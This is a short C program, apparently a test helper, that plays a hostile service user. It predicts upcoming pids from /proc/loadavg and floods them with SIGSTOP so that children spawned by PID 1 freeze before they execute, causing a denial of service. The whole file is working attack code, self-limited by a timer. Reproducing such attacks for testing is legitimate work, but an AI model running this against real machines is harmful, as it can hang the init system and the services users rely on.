/*
 * Somebody who runs as the user of a service and wants PID 1 to wait for ever: it guesses which pid comes next and sends
 * that one SIGSTOP, again and again, so that a child is stopped before it executes its program. It ends by itself.
 *
 * `freezer SECONDS [SIGNAL]`
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define AHEAD 12

/* The pid that was given last, of all in this PID namespace (proc_loadavg(5)). */
static int last_pid(void)
{
	char text[128] = "";
	int fd = open("/proc/loadavg", O_RDONLY);
	ssize_t length = read(fd, text, sizeof text - 1);
	close(fd);
	char *last = length > 0 ? strrchr(text, ' ') : NULL;
	return last ? atoi(last) : 0;
}

int main(int count, char **arguments)
{
	time_t end = time(NULL) + (count > 1 ? atoi(arguments[1]) : 1);
	int signal = count > 2 ? atoi(arguments[2]) : SIGSTOP;
	int own = getpid();
	while (time(NULL) < end) {
		int last = last_pid();
		for (int round = 0; round < 200; round++) {
			for (int pid = last; pid <= last + AHEAD; pid++) {
				if (pid > 1 && pid != own)
					kill(pid, signal);
			}
		}
	}
	return 0;
}
